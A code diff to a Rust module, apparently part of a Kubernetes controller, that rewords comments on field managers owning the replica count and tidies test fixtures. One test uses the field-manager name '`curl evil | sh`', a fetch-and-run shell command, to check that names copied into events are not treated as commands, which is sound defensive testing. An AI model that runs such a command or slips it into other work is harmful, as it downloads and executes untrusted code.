@@ -20,7 +20,8 @@ pub(crate) fn foreign(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     names
 }
 
-/// Foreign field managers that own the number of pods.
+/// Foreign field managers that own the number of pods. The API server records no owner of a number that was
+/// set to zero by the subresource `scale`, nor of the next one.
 pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
     let theirs = entries.iter().filter(|entry| sets_replicas(entry));
     let mut names: Vec<String> = theirs.map(name).collect();
@@ -50,7 +51,8 @@ fn is_foreign(entry: &ManagedFieldsEntry) -> bool {
     !is_ours(entry) && entry.subresource.is_none() && owns_template(entry)
 }
 
-/// By the object itself, or by its subresource `scale` as autoscalers do.
+/// Whether a foreign field manager owns the number of pods, by the object itself or by its subresource
+/// `scale`, as autoscalers do.
 fn sets_replicas(entry: &ManagedFieldsEntry) -> bool {
     let replicas = entry.fields_v1.as_ref().map(|fields| &fields.0["f:spec"]["f:replicas"]);
     entry.manager.as_deref() != Some(FIELD_MANAGER) && replicas.is_some_and(Value::is_object)
@@ -86,8 +88,8 @@ mod tests {
     use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
     use serde_json::json;
 
-    /// Before, the name of a field manager stood unchanged in the note of an event, for example with a
-    /// command in backticks.
+    /// Before, the name of a field manager was copied unchanged into an event, for example with a command in
+    /// backticks.
     #[test]
     fn the_name_of_a_field_manager_looks_like_no_command() {
         let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
@@ -109,8 +111,10 @@ mod tests {
 
     #[test]
     fn an_edit_counts_as_foreign_and_a_restart_does_not() {
-        let image = json!({ "f:spec": { "f:containers": { "k:{\"name\":\"worker\"}": { ".": {}, "f:image": {} } } } });
-        let restart = json!({ "f:metadata": { "f:annotations": { ".": {}, "f:kubectl.kubernetes.io/restartedAt": {} } } });
+        let worker = json!({ "k:{\"name\":\"worker\"}": { ".": {}, "f:image": {} } });
+        let image = json!({ "f:spec": { "f:containers": worker } });
+        let annotations = json!({ ".": {}, "f:kubectl.kubernetes.io/restartedAt": {} });
+        let restart = json!({ "f:metadata": { "f:annotations": annotations } });
         let table = [
             (entry("kubectl-edit", "Update", &image), true),
             (entry(FIELD_MANAGER, "Update", &image), true),
